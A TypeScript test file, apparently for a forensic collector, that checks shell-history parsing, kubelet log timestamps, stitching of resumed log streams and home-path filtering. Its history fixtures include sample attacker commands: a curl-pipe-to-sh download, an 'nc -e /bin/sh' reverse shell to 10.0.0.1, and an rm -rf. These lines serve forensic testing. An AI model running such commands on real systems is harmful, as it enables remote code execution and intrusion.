// The parsers that give history commands and log lines their real times, and the kubelet log
// format the collector resumes cut streams by and the derivation stitches them with.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseHistory } from '../../../src/core/collectors/historyParsers.js';
import { START, kubeletTime, lineTime, resumeAfter, resumeSinceTime, stitchSegment, timeKey, timestampEnd, type ResumeState } from '../../../src/core/cluster/logFormat.js';
import { containerFromFieldPath } from '../../../src/core/collectors/events.js';
import { homeUsers, parseStat, candidatesFor } from '../../../src/core/collectors/commandHistory.js';

test('bash "#<epoch>" lines give the command after them its time; others have none', () => {
  const entries = parseHistory('bash', Buffer.from('#1700000000\ncurl -s http://x/m.sh | sh\nls\n#1700000100\nrm -rf /tmp/m\n'));
  assert.deepEqual(
    entries.map((e) => [e.command, e.epoch, e.timeSource]),
    [
      ['curl -s http://x/m.sh | sh', 1700000000, 'bash-timestamp'],
      ['ls', null, null],
      ['rm -rf /tmp/m', 1700000100, 'bash-timestamp'],
    ],
  );
});

test('zsh extended history and fish "when:" give times; multi-line zsh commands stay one entry', () => {
  const zsh = parseHistory('zsh', Buffer.from(': 1700000000:0;wget http://x\n: 1700000005:2;echo a \\\nb\nplain\n'));
  assert.deepEqual(
    zsh.map((e) => [e.command, e.epoch, e.timeSource]),
    [
      ['wget http://x', 1700000000, 'zsh-extended'],
      ['echo a \nb', 1700000005, 'zsh-extended'],
      ['plain', null, null],
    ],
  );
  const fish = parseHistory('fish', Buffer.from('- cmd: nc -e /bin/sh 10.0.0.1 4444\n  when: 1700000200\n  paths:\n    - /bin/sh\n- cmd: echo a\\nb\n'));
  assert.deepEqual(
    fish.map((e) => [e.command, e.epoch, e.timeSource]),
    [
      ['nc -e /bin/sh 10.0.0.1 4444', 1700000200, 'fish-when'],
      ['echo a\nb', null, null],
    ],
  );
  const mysql = parseHistory('mysql', Buffer.from('_HiStOrY_V2_\nselect\\040*\\040from\\040users;\n'));
  assert.deepEqual(mysql.map((e) => e.command), ['select * from users;']);
});

const B = (s: string) => Buffer.from(s, 'latin1');
/** timestampEnd over a whole line given as text. */
const tsEndOf = (line: string) => timestampEnd(B(line), 0, line.length);

test('log lines: an RFC 3339 prefix and its space are found in the bytes; anything else is no time', () => {
  for (const ts of ['2024-05-01T10:00:00Z', '2024-05-01T10:00:00.5Z', '2024-05-01T10:00:00.123456789Z', '2024-05-01T12:00:00+02:00', '2024-05-01T07:30:00.25-02:30']) {
    assert.equal(tsEndOf(`${ts} GET / 200`), ts.length, ts);
    assert.equal(lineTime(B(`${ts} GET / 200`), 0, ts.length + 10), ts);
  }
  assert.equal(tsEndOf('2024-05-01T10:00:00Z '), 20, 'an empty message is still a timestamped line');
  for (const bad of [
    '',
    '2024 is not a timestamp',
    '2024-05-01T10:00:00Z',
    '2024-05-01T10:00:00ZGET',
    '2024-05-01 10:00:00Z x',
    '2024-05-01t10:00:00Z x',
    '2024-05-01T10:00:00z x',
    '2024-05-01T10:00:00. x',
    '2024-05-01T10:00:00.Z x',
    '2024-05-01T10:00:00.1234567890Z x',
    '2024-05-01T10:00:00 x',
    '2024-05-01T10:00:00+0200 x',
    '2024-5-01T10:00:00Z x',
    '\u00a02024-05-01T10:00:00Z x',
  ]) {
    assert.equal(tsEndOf(bad), -1, JSON.stringify(bad));
    assert.equal(lineTime(B(bad), 0, bad.length), null, JSON.stringify(bad));
  }
  // Inside a larger buffer: only [start, end) counts, a time cut by `end` is no time.
  const buf = B('junk\n2024-05-01T10:00:00.5Z x\n');
  assert.equal(timestampEnd(buf, 5, buf.length - 1), 5 + 22);
  assert.equal(timestampEnd(buf, 5, 5 + 22), -1, 'no space before the end of the line');
});

test('log lines: kubelet times become the bundle\'s 7-digit UTC form; offsets are converted', () => {
  const t = (ts: string) => kubeletTime(B(`${ts} x`), 0, ts.length);
  assert.equal(t('2024-05-01T10:00:00.123456789Z'), '2024-05-01T10:00:00.1234567Z');
  assert.equal(t('2024-05-01T10:00:00.5Z'), '2024-05-01T10:00:00.5000000Z');
  assert.equal(t('2024-05-01T10:00:00Z'), '2024-05-01T10:00:00.0000000Z');
  assert.equal(t('2024-05-01T12:00:00+02:00'), '2024-05-01T10:00:00.0000000Z');
  assert.equal(t('2024-05-01T07:30:00.25-02:30'), '2024-05-01T10:00:00.2500000Z');
});

test('timeKey orders kubelet times by instant although their fractions are trimmed', () => {
  const times = ['2026-11-30T10:00:00.5Z', '2026-11-30T10:00:00Z', '2026-11-30T10:00:00.123Z', '2026-11-30T10:00:01Z', '2026-11-30T10:00:00.12Z', '2026-11-30T10:00:00.000000001Z'];
  // As plain text "…00Z" sorts after "…00.5Z" ('Z' > '.'): the trimmed form cannot be compared as written.
  assert.ok('2026-11-30T10:00:00Z' > '2026-11-30T10:00:00.5Z');
  assert.deepEqual([...times].sort((a, b) => (timeKey(a) < timeKey(b) ? -1 : timeKey(a) > timeKey(b) ? 1 : 0)), [
    '2026-11-30T10:00:00Z',
    '2026-11-30T10:00:00.000000001Z',
    '2026-11-30T10:00:00.12Z',
    '2026-11-30T10:00:00.123Z',
    '2026-11-30T10:00:00.5Z',
    '2026-11-30T10:00:01Z',
  ]);
  assert.equal(timeKey('2026-11-30T10:00:00.5Z'), timeKey('2026-11-30T10:00:00.500Z'), 'the same instant, however many zeros');
  assert.equal(resumeSinceTime('2026-11-30T10:00:00.5Z'), '2026-11-30T10:00:00Z', 'a resume asks from the whole second');
  assert.equal(resumeSinceTime('2026-11-30T11:00:00.25+01:00'), '2026-11-30T11:00:00+01:00');
});

/** Stitches segments (attempts of one stream) as the derivation does; the last one keeps its tail. */
function stitch(segments: string[]): { lines: string[]; states: ResumeState[] } {
  const lines: string[] = [];
  const states: ResumeState[] = [];
  let state = START;
  segments.forEach((seg, i) => {
    const buf = B(seg);
    state = stitchSegment(buf, state, (start, end) => lines.push(buf.toString('latin1', start, end)), i === segments.length - 1);
    states.push(state);
  });
  return { lines, states };
}

test('a resumed log stream is stitched by position: held lines are skipped, two identical lines at one time stay two', () => {
  const T1 = '2026-11-30T10:00:00.1Z';
  const T2 = '2026-11-30T10:00:00.2Z';
  const T3 = '2026-11-30T10:00:01Z';
  const log = [`${T1} a`, `${T2} dup`, `${T2} dup`, `${T3} b`, `${T3} tail`];
  // The first attempt is cut inside the second "dup": one of the two is held.
  const first = `${log[0]}\n${log[1]}\n${log[2]!.slice(0, 24)}`;
  assert.deepEqual(resumeAfter(B(first), START), { at: T2, count: 1 }, 'what the collector resumes from');
  // The server answers the resume from the whole second: everything again, then the rest; the
  // last line has no newline (the end of the log).
  const again = `${log.join('\n')}`;
  const { lines, states } = stitch([first, again]);
  assert.deepEqual(lines, log, 'nothing lost, nothing doubled');
  assert.deepEqual(states, [{ at: T2, count: 1 }, { at: T3, count: 2 }]);

  // The same identical line cut three times: the held count carries over attempts.
  const L = `${T2} same`;
  const three = stitch([`${L}\n${L.slice(0, 5)}`, `${L}\n${L}\n${L.slice(0, 3)}`, `${L}\n${L}\n${L}\n`]);
  assert.deepEqual(three.lines, [L, L, L]);
  assert.deepEqual(three.states.map((s) => s.count), [1, 2, 3]);

  // A held time without a fraction: a line later in the same second is new although "…00.5Z" < "…00Z" as text.
  const whole = '2026-11-30T10:00:00Z';
  const held = stitch([`${whole} x\n${whole} y`, `${whole} x\n${whole} y\n2026-11-30T10:00:00.5Z z\n`]);
  assert.deepEqual(held.lines, [`${whole} x`, `${whole} y`, '2026-11-30T10:00:00.5Z z']);

  // While skipping, a line without a time belongs to the held part; after it, it is kept.
  const untimed = stitch([`${T1} a\n${T2} b\n`, `${T1} a\ncontinuation\n${T2} b\n${T3} c\nplain\n`]);
  assert.deepEqual(untimed.lines, [`${T1} a`, `${T2} b`, `${T3} c`, 'plain']);
});

test('an unterminated tail is a line only in the last attempt', () => {
  const T = '2026-11-30T10:00:00Z';
  const lines: string[] = [];
  const buf = B(`${T} a\n${T} cut`);
  stitchSegment(buf, START, (s, e) => lines.push(buf.toString('latin1', s, e)));
  assert.deepEqual(lines, [`${T} a`], 'a cut line is asked for again, not kept');
  stitchSegment(buf, START, (s, e) => lines.push(buf.toString('latin1', s, e)), true);
  assert.deepEqual(lines, [`${T} a`, `${T} a`, `${T} cut`]);
});

test('home folder names that could escape a path are ignored; stat output is matched to asked paths', () => {
  assert.deepEqual(homeUsers('alice\n..\nbob smith\n.hidden\nx/y\ncarol\n'), ['alice', 'carol']);
  const cands = candidatesFor(['alice']);
  const found = parseStat('1700000000 42 /root/.bash_history\n1700000001 7 /home/alice/.zsh_history\n1 1 /etc/shadow\n', cands);
  assert.deepEqual(
    found.map((f) => [f.path, f.user, f.shell, f.size, f.mtime]),
    [
      ['/root/.bash_history', 'root', 'bash', 42, '2023-11-14T22:13:20.0000000Z'],
      ['/home/alice/.zsh_history', 'alice', 'zsh', 7, '2023-11-14T22:13:21.0000000Z'],
    ],
  );
});

test('event fieldPath names the container', () => {
  assert.equal(containerFromFieldPath('spec.containers{web}'), 'web');
  assert.equal(containerFromFieldPath('spec.initContainers{init-db}'), 'init-db');
  assert.equal(containerFromFieldPath('metadata.name'), '');
});
